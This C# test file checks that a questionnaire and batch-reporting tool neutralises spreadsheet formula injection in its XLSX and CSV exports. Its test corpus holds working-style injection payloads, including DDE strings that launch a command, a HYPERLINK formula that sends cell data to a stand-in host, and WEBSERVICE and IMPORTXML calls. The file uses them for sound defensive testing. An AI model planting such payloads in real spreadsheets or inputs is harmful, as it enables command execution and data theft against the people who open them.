using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using RongTong.EdgeTests.Batch;
using RongTong.EdgeTests.Questionnaires;
using RongTong.Assessing;
using RongTong.Reporting.Office.Excel;

namespace RongTong.EdgeTests;

/// <summary>
/// One corpus of texts that spreadsheets would run, put in wherever a person can type one, and looked for in every cell of every export: in a
/// workbook it is a text marked as one, in CSV it is preceded by an apostrophe, and it comes back as it was.
/// </summary>
public sealed class FormulaInjectionTests
{
    internal static readonly string[] Corpus =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"x\")", "=WEBSERVICE(\"http://example.invalid\")", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(1)",
        " =1+1", "\"=1+1", "'=1+1", "　=1+1", "\u00A0=1+1", "\uFEFF=1+1", "=IMPORTXML(CONCAT(\"http://example.invalid\"),\"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")", "+A1", "-A1", "@A1", "=A1:A9", "=\"x\"&\"y\"", "=1;2", "=1,2",
        "\t=1+1", "\r=1+1", "\n=1+1",
    ];

    [Fact]
    public void Questionnaires_hold_them_as_texts()
    {
        foreach (var reference in (string[])["miit/srdi-sme@2026", "miit/sme-digital-level@2024"])
        {
            var model = Questionnaire.Model(reference);
            var texts = model.Model.Answerable.Where(f => f.Type is Models.FieldType.Text && !f.IsCreditCode).ToList();
            for (var i = 0; i < Corpus.Length; i++)
            {
                // Typed where texts are asked for, and where numbers, days and choices are: those keep what was typed too.
                var sheet = new AnswerSheet { Enterprise = new Enterprise(Corpus[i], "", Corpus[i], Corpus[i], null, Corpus[i]) };
                foreach (var field in model.Model.Answerable.Where(f => f.Type != Models.FieldType.Multi && !f.IsCreditCode)) sheet = sheet.With(field.Id, Corpus[i]);
                IsHarmless(WorkbookOf(model, sheet), Corpus[i]);
            }
            texts.Count.ShouldBeGreaterThanOrEqualTo(reference.Contains("srdi", StringComparison.Ordinal) ? 3 : 0);
        }
    }

    [Fact]
    public void Batches_hold_them_as_texts_in_every_file()
    {
        var rows = Corpus.SelectMany((text, i) => new[] { BatchSample.Row(2 * i + 1, ("enterprise_name", text)), BatchSample.Row(2 * i + 2, ("revenue_y1", text)) }).ToArray();
        using var trial = BatchTrial.Of(BatchSample.Table(rows), "--xlsx");
        var files = Directory.GetFiles(trial.Out, "*.csv").Select(f => Path.GetFileName(f)).ToList();
        files.ShouldBe(["results.csv", "rejects.csv", "review.csv", "notice.csv"], ignoreOrder: true);
        foreach (var file in files)
        foreach (var cell in trial.Rows(file).SelectMany(r => r.Values))
            (SpreadsheetFormula.IsLike(cell) && !IsNumber(cell) && cell[0] != '\'').ShouldBeFalse($"{file}: {cell}");
        trial.Rows("results.csv").Select(r => r["name"]).ShouldContain("'=1+1");
        trial.Rows("rejects.csv").Select(r => r["value"]).ShouldContain("'=1+1");
        IsHarmless(File.ReadAllBytes(Path.Combine(trial.Out, "results.xlsx")), "=1+1");
    }

    /// <summary>No cell computes but those of our own formulas, and what looks like a formula is marked as text.</summary>
    private static void IsHarmless(byte[] workbook, string payload)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(workbook), isEditable: false);
        var formats = document.WorkbookPart!.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ToList();
        var (found, bare) = (0, payload.Trim());
        foreach (var cell in document.WorkbookPart.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<Cell>()))
        {
            if (cell.CellFormula is { } formula)
            {
                formula.Text.ShouldNotContain("example.invalid");
                formula.Text.ShouldNotContain("cmd|");
                continue;
            }
            if (cell.DataType?.Value is not CellValues.InlineString || !SpreadsheetFormula.IsLike(cell.InnerText)) continue;
            found += cell.InnerText.Contains(bare, StringComparison.Ordinal) ? 1 : 0;
            var format = formats[(int)(cell.StyleIndex?.Value ?? 0)];
            (format.QuotePrefix?.Value == true || format.NumberFormatId?.Value == 49).ShouldBeTrue($"{cell.CellReference}: {cell.InnerText}");
        }
        found.ShouldBeGreaterThan(0, payload);
        foreach (var rule in document.WorkbookPart.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<DataValidation>())) rule.InnerText.ShouldNotContain("example.invalid");
    }

    private static byte[] WorkbookOf(Compiling.CompiledModel model, AnswerSheet sheet)
    {
        var (form, bytes) = (Reporting.Questionnaires.QuestionnaireForm.Of(model), new MemoryStream());
        Reporting.Questionnaires.QuestionnaireWorkbook.Write(bytes, form, RongTong.Text.Language.Zh, sheet, [.. form.Titles.Select(t => (t, RongTong.Text.LocalizedText.Same(t)))]);
        return bytes.ToArray();
    }

    private static bool IsNumber(string cell) => decimal.TryParse(cell, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _);
}
